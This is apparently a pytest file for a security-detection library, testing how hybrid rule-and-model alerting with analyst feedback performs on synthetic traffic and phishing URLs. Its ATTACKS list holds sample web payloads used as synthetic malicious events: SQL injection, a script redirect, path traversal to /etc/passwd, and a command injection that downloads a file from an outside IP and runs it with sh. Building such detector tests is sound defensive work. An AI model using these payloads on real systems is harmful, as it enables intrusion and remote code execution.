"""Efficacy replay (the seed's Figure 1) on a small synthetic scenario."""

from __future__ import annotations

import numpy as np
import pytest

from secml_detect import ByteFrequencyModel, URLClassifier
from secml_detect.hybrid.replay import ReplayDay, efficacy_at_budget, plot_efficacy, replay_efficacy, top_k_outcome

ATTACKS = ["id={}' OR '1'='1' --", "<script>document.location='http://x/{}'</script>", "../../../../etc/passwd%00{}",
           ";wget http://203.0.113.9/{} -O /tmp/x;sh /tmp/x"]


def _day(rng, label, n_benign, n_bad, bad_ips):
    events, y = [], []
    for _ in range(n_benign):
        events.append({"dst_ip": f"192.0.2.{rng.randint(1, 255)}", "payload": f"id={rng.randint(9999)}&user=u{rng.randint(99)}"})
        y.append(0)
    for k in range(n_bad):
        events.append({"dst_ip": bad_ips[k % len(bad_ips)], "payload": ATTACKS[rng.randint(len(ATTACKS))].format(rng.randint(99))})
        y.append(1)
    return ReplayDay(label, events, np.array(y))


def test_replay_hybrid_beats_rules_and_learns():
    rng = np.random.RandomState(0)
    old_ips = [f"198.51.100.{i}" for i in range(1, 11)]
    history = _day(rng, "history", 300, 30, old_ips)
    days = []
    for d in range(6):
        new_ips = [f"203.0.{113 + d}.{i}" for i in range(1, 6)]
        days.append(_day(rng, f"day{d}", 200, 20, old_ips[:3] + new_ips))
    result = replay_efficacy(history, days, lambda: [("payload", ByteFrequencyModel(), "payload")],
                             indicator_columns={"ip": "dst_ip"}, update_every=3, update_delay=1,
                             alert_budget=2, analyst_k=10)
    eff = {k: np.nanmean(v) for k, v in result.efficacy.items()}
    assert 0.2 < eff["rules only"] < 0.6           # reused IPs only
    assert eff["hybrid"] >= max(eff["rules only"], eff["models only"]) - 0.05
    assert eff["hybrid + feedback"] >= eff["hybrid"] - 0.05
    assert result.promoted > 0 and result.feedback_labels == 60
    assert len(result.days) == 6 and result.area_between("hybrid", "rules only") > 0
    fig = plot_efficacy(result)
    assert len(fig.axes[0].lines) >= 4


def test_efficacy_without_malicious_is_nan():
    value, used = efficacy_at_budget(np.array([0.5, 0.1]), np.array([0, 0]), budget=1)
    assert np.isnan(value) and used == 0


WORDS = ["shop", "news", "mail", "docs", "cdn", "blog", "wiki", "maps", "api", "store"]


def _url_day(rng, label, n_benign, n_bad):
    """Phishing whose bytes look ordinary (only the words give it away) among benign URLs,
    4% of them harmless tracking blobs that an anomaly model alone ranks first."""
    def benign():
        tail = "?t=" + "".join(rng.choice(list("QXZJK0123456789_-~%"), 16)) if rng.rand() < 0.04 else ""
        return f"https://www.{rng.choice(WORDS)}{rng.randint(999)}.com/{rng.choice(WORDS)}/{rng.randint(9999)}{tail}"

    def phish():
        code = "".join(rng.choice(list("QXZJK0123456789"), 6))
        return f"https://www.{rng.choice(WORDS)}{rng.randint(999)}.com/{rng.choice(WORDS)}/login/{rng.randint(9999)}?s={code}"

    urls = [benign() for _ in range(n_benign)] + [phish() for _ in range(n_bad)]
    return ReplayDay(label, [{"url": u} for u in urls], np.r_[np.zeros(n_benign), np.ones(n_bad)])


@pytest.mark.parametrize("seed", [0, 2])
def test_feedback_from_an_unsupervised_start_raises_detections_and_cuts_false_alerts_at_the_budget(seed):
    """AI^2's comparison: the analyst's k alerts a day, with and without the feedback loop."""
    rng = np.random.RandomState(seed)
    history = _url_day(rng, "history", 400, 0)
    days = [_url_day(rng, f"day{d}", 300, 15) for d in range(10)]
    result = replay_efficacy(
        history, days,
        lambda: [("anomaly", ByteFrequencyModel(), "url"), ("clf", URLClassifier(n_features=2**12, random_state=0), "url")],
        indicator_columns={"url": "url"}, alert_budget=3, analyst_k=10, history_labels=False)
    late = slice(7, None)  # the loop needs a few rounds to surface its first confirmed phish
    start_hits, start_false = result.detected_in_top["hybrid"][late].sum(), result.false_in_top["hybrid"][late].sum()
    loop_hits, loop_false = result.detected_in_top["hybrid + feedback"][late].sum(), result.false_in_top["hybrid + feedback"][late].sum()
    assert start_hits <= 3 and start_false >= 27          # the anomaly model alone surfaces the blobs
    assert loop_hits >= 3 * max(start_hits, 1) and 5 * loop_false <= start_false
    # The verdict-trained classifier is calibrated: at the fixed threshold it does not flood ordinary traffic.
    assert result.false_at_threshold["hybrid + feedback"][late].sum() <= result.false_at_threshold["hybrid"][late].sum()
    assert result.detected_at_threshold["hybrid + feedback"][late].sum() > result.detected_at_threshold["hybrid"][late].sum()


def test_top_k_ignores_unscored_events_and_replay_counts_within_k():
    assert top_k_outcome(np.array([0.0, 0.0]), np.array([1, 0]), k=5) == (0, 0)
    assert top_k_outcome(np.array([0.2, 0.9, 0.5]), np.array([1, 0, 1]), k=2) == (1, 1)
